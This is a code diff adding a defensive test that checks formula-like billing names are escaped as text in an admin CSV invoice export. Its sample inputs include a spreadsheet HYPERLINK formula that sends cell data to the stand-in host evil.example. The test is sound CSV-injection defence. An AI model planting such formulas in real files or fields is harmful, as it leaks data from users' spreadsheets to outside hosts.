@@ -112,6 +112,26 @@ for (const kind of DB_KINDS) {
       expect(ctx.rt.renderer.stats.rendered).to.equal(rendered);
     });
 
+    it('writes a billing name that looks like a formula as text (no CSV injection)', async () => {
+      const attacker = await registerCustomer(ctx.app, 'Mallory');
+      const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1+1)', '-2+3', '@cmd'];
+      for (const name of formulas) {
+        const booking = await createBooking(ctx.app, attacker.auth, { scheduledAt: '2032-07-10T06:00:00Z', name });
+        await request(ctx.app)
+          .get(`/api/bookings/${booking.id}/invoice`)
+          .set('Authorization', attacker.auth)
+          .expect(200);
+      }
+      const res = await request(ctx.app)
+        .get('/api/admin/invoices/register.csv')
+        .query({ from: '2032-07-10', to: '2032-07-10' })
+        .set('Authorization', admin)
+        .expect(200);
+      const rows = parse(res.text, { columns: true }) as { customer: string }[];
+      const customers = rows.map((row) => row.customer).filter((c) => c !== '');
+      expect(customers.slice(0, formulas.length)).to.deep.equal(formulas.map((f) => `'${f}`));
+    });
+
     it('yields a valid ZIP with only the register header and the manifest for an empty range', async () => {
       const res = await exportZip(ctx, admin, { from: '2033-01-01', to: '2033-01-31' }).expect(200);
       const entries = await unzip(res.body);
